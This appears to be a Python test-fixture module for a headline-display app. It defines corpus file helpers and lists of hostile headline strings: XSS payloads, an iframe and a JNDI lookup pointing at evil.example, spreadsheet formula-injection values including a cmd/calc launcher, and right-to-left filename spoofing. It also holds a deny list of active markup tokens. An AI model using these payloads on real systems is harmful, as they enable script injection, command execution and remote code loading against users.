"""What a file of the corpus is, and strings that mean harm or were made by accident."""

import csv as delimited
import io
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial


@dataclass(frozen=True)
class File:
    """One file of the corpus.

    Attributes:
        name: As it is uploaded or written.
        made: Its bytes, or what makes them where they are many.
        comes: How many headlines it gives, or words of the sentence that refuses it; "" where that depends on
            where it is given.
        megabytes: Value of HEADLINE_LAB_FILE_MEGABYTES and _UNPACKED_MEGABYTES while it is given.
    """

    name: str
    made: bytes | Callable[[], bytes]
    comes: int | str = ""
    megabytes: int | None = None

    @property
    def content(self) -> bytes:
        return self.made if isinstance(self.made, bytes) else self.made()

    def written(self, folder):
        path = folder / self.name.replace("/", "∕")
        path.write_bytes(self.content)
        return path

    def under_its_limits(self, monkeypatch):
        if self.megabytes is not None:
            for limit in ("FILE", "UNPACKED"):
                monkeypatch.setenv(f"HEADLINE_LAB_{limit}_MEGABYTES", str(self.megabytes))


csv = partial(File, "a.csv")
json_file = partial(File, "a.json")
book = partial(File, "a.xlsx")
parquet = partial(File, "a.parquet")

MARKUP = (
    "<script>alert(1)</script> hits the coast",
    '"><img src=x onerror=alert(1)> banks agree',
    '<a href="https://evil.example">Prize</a> <b>for</b> everyone',
    "![picture](https://evil.example/p.png) of a storm",
    "[click here](javascript:alert(1)) says minister",
    "$\\frac{1}{0}$ and $$\\href{https://evil.example}{x}$$ rise",
    ":material/home: :material_home: :streamlit: :smile: prices fall",
    ":red[stop] :rainbow[now] :badge[x] strike",
    "`code` **bold** _em_ ~~gone~~ # title | a | b |",
    "https://evil.example/x?y=1 www.evil.example a.b@evil.example report",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp; co",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} %{x} %s",
    "</script></style></svg><iframe src=//evil.example> blocks road",
)
FORMULAS = (
    "=HYPERLINK(1) won", "+1+cmd|' /C calc'!A0 lost", "-2+3 drawn", "@SUM(A1) held", "＝1+1 full width",
)  # fmt: skip
SCRIPTS = (
    "שלום עולם: ראש הממשלה נפגש", "هبوط مركبة على سطح القمر", "abc \u202egnp.exe\u202c direction is turned",
    "👩‍🚀👨‍👩‍👧‍👦 lands 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇺🇳", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L stacked marks",
    "NUL \x00 bell \x07 escape \x1b[31m inside",
)  # fmt: skip
HEADLINES = (*MARKUP, *FORMULAS, *SCRIPTS)
ACTIVE = ("<script", "<a ", "<a>", "<img", "<iframe", "<b>", "</style", "javascript:", "onerror=")
"""What no drawn text may hold as it is, in lower case."""


def table(rows, delimiter=","):
    buffer = io.StringIO(newline="")
    delimited.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8", errors="surrogatepass")
